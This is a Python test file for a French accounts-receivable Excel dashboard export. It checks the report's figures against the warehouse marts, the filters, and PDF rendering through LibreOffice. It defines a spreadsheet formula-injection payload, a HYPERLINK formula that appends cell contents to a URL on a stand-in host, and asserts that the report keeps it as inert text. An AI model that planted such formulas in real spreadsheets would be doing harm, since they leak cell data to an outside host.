"""The Excel tableau de bord (`arw report --format xlsx`, ar_warehouse.report): opened with openpyxl,
its figures equal the marts; a customer name that looks like a formula stays text; the filters
and --as-of work; LibreOffice (headless) converts it to PDF and its summary page is not blank."""

from __future__ import annotations

import os
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest

from ar_warehouse.cli import main as arw
from ar_warehouse.paths import project_dir
from conftest import demo_warehouse

openpyxl = pytest.importorskip("openpyxl")

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"cliquez")'


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory) -> Path:
    """A copy of the demo warehouse where one customer's name is a formula and another's starts
    with + - @ (a name the ledger could carry: the report must show it, never run it)."""
    copy = tmp_path_factory.mktemp("report") / "ar.duckdb"
    copy.write_bytes(demo_warehouse().read_bytes())
    con = duckdb.connect(str(copy))
    try:
        top = con.execute("""select company_code, customer_code from marts.fct_ar_aged_balance_weekly
                             where is_latest order by balance desc limit 4""").fetchall()
        for (company, customer), name in zip(top, [EVIL, "+33 1 23 45", "-SARL Moins", "@Arobase"]):
            for table in ("fct_ar_aged_balance_weekly", "dim_customers"):
                con.execute(f"update marts.{table} set customer_name = ? where company_code = ? "
                            "and customer_code = ?", [name, company, customer])
    finally:
        con.close()
    return copy


def q(warehouse: Path, sql: str, params=None) -> list[tuple]:
    con = duckdb.connect(str(warehouse), read_only=True)
    try:
        return con.execute(sql, params or []).fetchall()
    finally:
        con.close()


@pytest.fixture(scope="module")
def workbook(warehouse, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("xlsx") / "tableau-de-bord.xlsx"
    assert arw(["report", "--format", "xlsx", "--warehouse", str(warehouse), "--out", str(out)]) == 0
    return out


def _table(ws, header_text: str) -> tuple[list[str], list[list]]:
    """The table whose first header cell is header_text: (headers, data rows until a blank first cell
    or a 'Total' row)."""
    for row in ws.iter_rows():
        if row[0].value == header_text:
            headers = [c.value for c in row]
            data = []
            for r in ws.iter_rows(min_row=row[0].row + 1):
                if r[0].value in (None, "Total"):
                    break
                data.append([c.value for c in r])
            return headers, data
    raise AssertionError(f"no table headed {header_text!r} in {ws.title}")


def _total_row(ws, label="Total") -> list:
    for row in ws.iter_rows():
        if row[0].value == label:
            return [c.value for c in row]
    raise AssertionError(f"no {label} row in {ws.title}")


def test_sheets_and_source_line(workbook, warehouse):
    book = openpyxl.load_workbook(workbook)
    assert book.sheetnames[:6] == ["Synthèse", "Balance âgée", "Relances et blocages", "Top 100", "Échéancier",
                                   "Recouvrement"]
    as_of = q(warehouse, "select max(snapshot_date) from marts.fct_ar_aged_balance_weekly where is_latest")[0][0]
    for ws in book.worksheets:
        assert ws["A2"].value.startswith(f"Généré depuis l'entrepôt {warehouse.name} au {as_of:%d/%m/%Y}"), ws.title
        assert ws.page_setup.orientation == "landscape", ws.title
        # fit to one page wide (1 is the file format's default, left out), as many pages down as needed
        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert ws.page_setup.fitToWidth in (None, 1) and ws.page_setup.fitToHeight == 0, ws.title
        assert ws.freeze_panes, ws.title
    assert book["Balance âgée"].auto_filter.ref and book["Top 100"].auto_filter.ref
    # the worklist sheet exists exactly when the mart does
    has_worklist = q(warehouse, "select count(*) from information_schema.tables where table_schema = 'marts' "
                                "and table_name = 'fct_ar_collection_worklist'")[0][0]
    assert ("Plan d'action" in book.sheetnames) == bool(has_worklist)


def test_french_number_formats(workbook):
    ws = openpyxl.load_workbook(workbook)["Balance âgée"]
    headers, rows = _table(ws, "Société")
    col = headers.index("Solde") + 1
    cell = ws.cell(row=5, column=col)
    assert isinstance(cell.value, float | int)
    # French locale on the format itself (LCID 040C): "# ##0,00" in any reader's locale
    assert cell.number_format == "[$-40C]#,##0.00"


def test_aged_balance_ties_to_the_marts_and_the_ledger(workbook, warehouse):
    ws = openpyxl.load_workbook(workbook)["Balance âgée"]
    headers, rows = _table(ws, "Société")
    mart = {(c, k): (b, o) for c, k, b, o in q(warehouse, """
        select company_code, customer_code, balance, overdue_total from marts.fct_ar_aged_balance_weekly
        where is_latest""")}
    assert len(rows) == len(mart)
    i_co, i_cu, i_bal, i_over = (headers.index(h) for h in ("Société", "Code client", "Solde", "Total échu"))
    for r in rows:
        balance, overdue = mart[(r[i_co], r[i_cu])]
        assert abs(Decimal(str(r[i_bal])) - balance) < Decimal("0.005")
        assert abs(Decimal(str(r[i_over])) - overdue) < Decimal("0.005")
    labels = [lab for (lab,) in q(warehouse, "select label_fr from marts.dim_age_buckets order by age_bucket_order")]
    assert headers[5:5 + len(labels)] == labels  # the buckets as columns, in their order
    total = _total_row(ws)
    ledger = q(warehouse, """select sum(amount) from staging.stg_ledger__entries
                             where posting_date <= (select max(snapshot_date) from marts.fct_ar_aged_balance_weekly)""")
    assert abs(Decimal(str(total[i_bal])) - ledger[0][0]) < Decimal("0.005")
    gap = _total_row(ws, "Écart balance âgée – grand livre (doit être 0,00)")
    assert abs(gap[i_bal]) < 0.005
    # the bucket columns add up to the balance on the totals row
    assert abs(sum(total[5:5 + len(labels)]) - total[i_bal]) < 0.01


def test_formula_like_names_stay_text(workbook):
    book = openpyxl.load_workbook(workbook)
    found = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in (EVIL, "+33 1 23 45", "-SARL Moins", "@Arobase"):
                    found.setdefault(cell.value, []).append(ws.title)
                    assert cell.data_type == "s", f"{cell.value!r} in {ws.title} is not a string cell"
    assert set(found) == {EVIL, "+33 1 23 45", "-SARL Moins", "@Arobase"}
    assert "Top 100" in found[EVIL] and "Balance âgée" in found[EVIL]
    # and no formula anywhere in the workbook: every figure is a value
    import zipfile

    with zipfile.ZipFile(workbook) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in z.read(name), f"a formula in {name}"


def test_summary_figures(workbook, warehouse):
    ws = openpyxl.load_workbook(workbook)["Synthèse"]
    values = {row[0].value: row[1].value for row in ws.iter_rows(min_row=4, max_row=20) if isinstance(row[0].value, str)}
    balance, overdue, not_due = q(warehouse, """select sum(balance), sum(overdue_total), sum(not_due)
        from marts.fct_ar_aged_balance_weekly where is_latest""")[0]
    assert abs(values["Encours clients"] - float(balance)) < 0.005
    assert abs(values["Dont échu"] - float(overdue)) < 0.005
    assert abs(values["Part échue (échu / factures ouvertes)"] - float(overdue / (overdue + not_due))) < 1e-9
    over_limit = q(warehouse, "select count(*) from marts.fct_ar_credit_exposure where is_over_limit")[0][0]
    assert values["Clients en dépassement de limite de crédit"] == over_limit
    rate = q(warehouse, """select sum(amount_collected) / sum(amount_to_collect) from marts.fct_ar_collection_monthly
                           where not is_complete""")[0][0]
    [label] = [k for k in values if k.startswith("Taux de recouvrement de ")]
    assert abs(values[label] - float(rate)) < 1e-9
    for company, dso, cei in q(warehouse, """select company_code, dso_standard, cei from marts.fct_ar_kpis_monthly
                                             where not is_complete"""):
        [dso_label] = [k for k in values if k.startswith(f"DSO standard {company} ")]
        assert abs(values[dso_label] - float(dso)) < 1e-4
    # 13 weeks of outstanding by bucket, the latest equal to the mart, with its stacked chart
    headers, weeks = _table(ws, "Semaine (date d'arrêté)")
    assert len(weeks) == 13
    assert abs(weeks[-1][headers.index("Total")] - float(balance)) < 0.005
    mart = dict(q(warehouse, """select b.label_fr, coalesce(sum(o.outstanding_amount), 0) from marts.dim_age_buckets b
        left join marts.fct_ar_outstanding_weekly o on o.age_bucket = b.age_bucket and o.is_latest
        group by b.label_fr"""))
    for label, amount in mart.items():
        assert abs(weeks[-1][headers.index(label)] - float(amount)) < 0.005, label
    charts = ws._charts
    assert len(charts) == 2
    assert charts[0].tagname == "barChart" and charts[0].grouping == "stacked"
    assert len(charts[0].series) == len(mart)
    # DSO / CEI trend: 13 months per company
    headers, trend = _table(ws, "Mois")
    companies = q(warehouse, "select count(distinct company_code) from marts.fct_ar_kpis_monthly")[0][0]
    assert len(trend) == 13 * companies


def test_other_sheets_equal_their_marts(workbook, warehouse):
    book = openpyxl.load_workbook(workbook)
    # top 100 per company = fct_ar_top_customers (same as-of)
    headers, rows = _table(book["Top 100"], "Société")
    mart = {(c, r): (k, b) for c, r, k, b in q(warehouse, """
        select company_code, rank, customer_code, balance from marts.fct_ar_top_customers""")}
    got = {(r[0], r[1]): (r[headers.index("Code client")], r[headers.index("Solde")]) for r in rows}
    assert set(got) == set(mart)
    for key, (customer, balance) in mart.items():
        assert got[key][0] == customer and abs(got[key][1] - float(balance)) < 0.005
    # due schedule = fct_ar_due_schedule
    headers, rows = _table(book["Échéancier"], "Société")
    mart = {(c, lab): float(a) for c, lab, a in q(warehouse, """
        select company_code, due_bucket_label_fr, sum(amount) from marts.fct_ar_due_schedule group by 1, 2""")}
    got = {(r[0], r[1]): r[2] for r in rows}
    assert set(got) == set(mart)
    for key, amount in mart.items():
        assert abs(got[key] - amount) < 0.005, key
    # collection by collector = fct_ar_collection_monthly, current month
    headers, rows = _table(book["Recouvrement"], "Société")
    mart = {(c, k): (float(t), float(a)) for c, k, t, a in q(warehouse, """
        select company_code, collector, amount_to_collect, amount_collected from marts.fct_ar_collection_monthly
        where not is_complete""")}
    got = {(r[0], r[1]): (r[2], r[3]) for r in rows}
    assert set(got) == set(mart)
    for key, (to_collect, collected) in mart.items():
        assert abs(got[key][0] - to_collect) < 0.005 and abs(got[key][1] - collected) < 0.005
    # outstanding by dunning status / blocking cause add up to the balance
    ws = book["Relances et blocages"]
    balance = float(q(warehouse, "select sum(balance) from marts.fct_ar_aged_balance_weekly where is_latest")[0][0])
    totals = [row for row in ws.iter_rows(values_only=True) if row[0] == "Total"]
    assert len(totals) == 2 and all(abs(t[1] - balance) < 0.005 for t in totals)


def test_filters_and_as_of(warehouse, tmp_path):
    company, collector = q(warehouse, """select company_code, collector from marts.fct_ar_aged_balance_weekly
        where is_latest and collector is not null group by 1, 2 order by count(*) desc limit 1""")[0]
    snap = q(warehouse, """select snapshot_date from marts.fct_ar_aged_balance_weekly
        group by 1 order by 1 desc limit 1 offset 5""")[0][0]
    out = tmp_path / "filtered.xlsx"
    assert arw(["report", "--warehouse", str(warehouse), "--company", company, "--collector", collector,
                "--as-of", (snap.isoformat()), "--out", str(out)]) == 0
    ws = openpyxl.load_workbook(out)["Balance âgée"]
    assert f"au {snap:%d/%m/%Y}" in ws["A2"].value and collector in ws["A2"].value
    headers, rows = _table(ws, "Société")
    want = q(warehouse, """select count(*), sum(balance) from marts.fct_ar_aged_balance_weekly
        where snapshot_date = ? and company_code = ? and collector = ?""", [snap, company, collector])[0]
    assert len(rows) == want[0] and {r[0] for r in rows} == {company}
    assert abs(_total_row(ws)[headers.index("Solde")] - float(want[1])) < 0.005
    gap = _total_row(ws, "Écart balance âgée – grand livre (doit être 0,00)")
    assert abs(gap[headers.index("Solde")]) < 0.005
    assert arw(["report", "--warehouse", str(warehouse), "--as-of", "1990-01-01", "--out", str(out)]) == 1


def test_libreoffice_renders_the_workbook(workbook, tmp_path):
    if not shutil.which("soffice") or not shutil.which("pdftoppm"):
        message = "LibreOffice (libreoffice-calc) and poppler-utils are needed (.ci/run installs them)"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    home = tmp_path / "home"
    home.mkdir()
    env = dict(os.environ, HOME=str(home))
    proc = subprocess.run(["soffice", "--headless", "--norestore", f"-env:UserInstallation={home.as_uri()}/lo",
                           "--convert-to", "pdf", "--outdir", str(tmp_path), str(workbook)],
                          env=env, capture_output=True, text=True, timeout=240, check=False)
    pdf = tmp_path / (workbook.stem + ".pdf")
    assert proc.returncode == 0 and pdf.exists(), f"conversion failed:\n{proc.stdout}\n{proc.stderr}"
    subprocess.run(["pdftoppm", "-r", "70", "-f", "1", "-l", "2", "-png", str(pdf), str(tmp_path / "page")],
                   check=True, timeout=120)
    pages = sorted(tmp_path.glob("page-*.png"))
    assert len(pages) == 2, "expected the first two pages rendered"
    shutil.copy(pages[0], project_dir() / "build" / "test" / "tableau-de-bord.png")
    # the summary page as raw pixels (PPM): not blank, with contrast (text, table, chart colours)
    subprocess.run(["pdftoppm", "-r", "40", "-f", "1", "-l", "1", "-singlefile", str(pdf), str(tmp_path / "summary")],
                   check=True, timeout=120)
    width, height, pixels = _ppm_pixels(tmp_path / "summary.ppm")
    dark = sum(1 for i in range(0, len(pixels), 3) if min(pixels[i:i + 3]) < 200)
    assert dark > 0.02 * width * height, f"the summary page is nearly blank ({dark} dark pixels)"
    coloured = sum(1 for i in range(0, len(pixels), 3) if max(pixels[i:i + 3]) - min(pixels[i:i + 3]) > 60)
    assert coloured > 0.002 * width * height, "no coloured pixel: the chart is missing from the summary page"
    sample = pixels[::5]
    mean = sum(sample) / len(sample)
    variance = sum((p - mean) ** 2 for p in sample) / len(sample)
    assert variance > 200, f"the summary page has no contrast (variance {variance:.0f})"


def _ppm_pixels(path: Path) -> tuple[int, int, bytes]:
    """Width, height and RGB bytes of a binary PPM (P6, maxval 255), what pdftoppm writes."""
    data = path.read_bytes()
    fields, pos = [], 0
    while len(fields) < 4:
        while data[pos:pos + 1].isspace():
            pos += 1
        end = pos
        while not data[end:end + 1].isspace():
            end += 1
        fields.append(data[pos:end])
        pos = end
    assert fields[0] == b"P6" and fields[3] == b"255"
    width, height = int(fields[1]), int(fields[2])
    return width, height, data[pos + 1:pos + 1 + width * height * 3]
